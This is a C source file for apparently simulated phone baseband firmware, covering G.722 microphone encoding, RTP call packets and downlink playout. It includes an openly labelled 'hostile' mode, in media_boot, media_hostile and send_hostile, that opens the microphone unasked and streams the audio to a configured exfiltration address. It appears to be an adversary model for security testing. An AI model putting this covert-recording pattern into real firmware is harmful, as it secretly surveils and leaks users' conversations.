/*
 * media.c - microphone frames through the real G.722 codec: RTP for a
 * call, and the hostile option that opens the microphone unasked and
 * uploads what it hears.
 *
 * Under ap-codec the call's uplink arrives encoded, from the AP's voice
 * app (HS_BBMSG_VOICE_UP), and is only packed into RTP here; the
 * downlink's codes go to the AP (HS_BBMSG_VOICE_DOWN) undecoded.
 *
 * The firmware asks for frames through BB_MIC_CTRL. Whether any arrive
 * is the wiring's business (host side): with baseband-direct the mic
 * starts capturing for the baseband; with ap-codec frames come only
 * while the AP routes them to the baseband.
 */
#include "fw.h"

#include "lib/g722.h"

#define MEDIA_RTP_BYTES (12 + G722_FRAME_BYTES)

static int16_t pcm[HS_MIC_FRAME_SAMPLES];
static int16_t playout[G722_FRAME_SAMPLES];
static uint8_t pkt[FW_IP_HDR + FW_UDP_HDR + MEDIA_RTP_BYTES + 8];
static G722State enc, dec;
static uint32_t mic_users; /* bit0 the AP asked, bit1 hostile */
static uint32_t call_on;
static uint32_t remote_addr;
static uint16_t remote_port, local_port;
static uint16_t rtp_seq;
static uint32_t rtp_ts, rtp_ssrc, hostile_seq;
static uint32_t frames_decoded;

static void mic_apply(void)
{
    fw_wr(BB_MMIO_MIC + BB_MIC_CTRL, mic_users ? 1 : 0);
}

void media_boot(void)
{
    g722_init(&enc);
    g722_init(&dec);
    if (fw_config()->flags & BB_CFG_HOSTILE) {
        mic_users |= 2;
        mic_apply();
    }
}

void media_hostile(int on)
{
    if (on)
        mic_users |= 2;
    else
        mic_users &= ~2u;
    mic_apply();
}

void media_mic_open(void)
{
    mic_users |= 1;
    mic_apply();
}

void media_mic_close(void)
{
    mic_users &= ~1u;
    mic_apply();
}

void media_call_start(uint32_t addr, uint16_t port, uint16_t lport)
{
    remote_addr = addr;
    remote_port = port;
    local_port = lport;
    /* RFC 3550 asks for random SSRC and starting points; the clock is
     * the only entropy the firmware has, and it is deterministic. */
    uint64_t now = fw_now_ns();
    rtp_ssrc = (uint32_t)(now ^ (now >> 29) ^ 0x5eed1234u);
    rtp_seq = (uint16_t)(now >> 7);
    rtp_ts = (uint32_t)(now >> 3);
    g722_init(&enc);
    g722_init(&dec);
    call_on = 1;
}

void media_call_stop(void)
{
    call_on = 0;
}

static void send_rtp(const uint8_t *codes)
{
    uint8_t *rtp = pkt + FW_IP_HDR + FW_UDP_HDR;
    rtp[0] = 0x80;
    rtp[1] = 9; /* G.722 */
    fw_put_be16(rtp + 2, rtp_seq++);
    fw_put_be32(rtp + 4, rtp_ts);
    rtp_ts += 160; /* 20 ms at G.722's 8000 Hz RTP clock (RFC 3551) */
    fw_put_be32(rtp + 8, rtp_ssrc);
    memcpy(rtp + 12, codes, G722_FRAME_BYTES);
    net_send_udp(pkt, fw_config()->phone_addr, local_port, remote_addr,
                 remote_port, 46, MEDIA_RTP_BYTES);
}

static void send_hostile(const uint8_t *codes)
{
    uint8_t *p = pkt + FW_IP_HDR + FW_UDP_HDR;
    fw_put_be32(p, hostile_seq++);
    memcpy(p + 4, codes, G722_FRAME_BYTES);
    const BbConfigBlock *cfg = fw_config();
    net_send_udp(pkt, cfg->phone_addr, (uint16_t)cfg->exfil_port,
                 cfg->exfil_addr, (uint16_t)cfg->exfil_port, 0,
                 4 + G722_FRAME_BYTES);
}

void media_on_mic(void)
{
    static uint8_t codes[G722_FRAME_BYTES];
    while (fw_rd(BB_MMIO_MIC + BB_MIC_STATUS) != 0) {
        fw_wr(BB_MMIO_MIC + BB_MIC_ADDR, (uint32_t)(uintptr_t)pcm);
        fw_wr(BB_MMIO_MIC + BB_MIC_POP, 1);
        if (!call_on && !(mic_users & 2))
            continue; /* nobody wants this frame */
        g722_encode(&enc, pcm, HS_MIC_FRAME_SAMPLES, codes);
        if (call_on)
            send_rtp(codes);
        else
            send_hostile(codes);
    }
}

/* ap-codec: the AP encoded the frame (its voice app); the firmware only
 * packs it into RTP. */
void media_voice_up(const uint8_t *codes, uint32_t len)
{
    if (!call_on || len < G722_FRAME_BYTES)
        return;
    send_rtp(codes);
}

void media_on_rtp(const uint8_t *payload, uint32_t len)
{
    if (!call_on || len < 12 + G722_FRAME_BYTES || (payload[0] >> 6) != 2)
        return;
    uint32_t hdr = 12 + 4u * (payload[0] & 15);
    if (len < hdr + G722_FRAME_BYTES)
        return;
    if (fw_config()->flags & BB_CFG_AP_CODEC) {
        /* the AP's voice app decodes and plays it */
        mbox_send(HS_BBMSG_VOICE_DOWN, 0, fw_be16(payload + 2), payload + hdr,
                  G722_FRAME_BYTES);
        return;
    }
    g722_decode(&dec, payload + hdr, G722_FRAME_BYTES, playout);
    frames_decoded++;
    /* playout: the decoded frame's sequence number goes to the host's
     * speaker path (the log), which stamps its playback time */
    fw_wr(BB_MMIO_SYS + BB_SYS_LOG, 0x9a000000u | fw_be16(payload + 2));
}
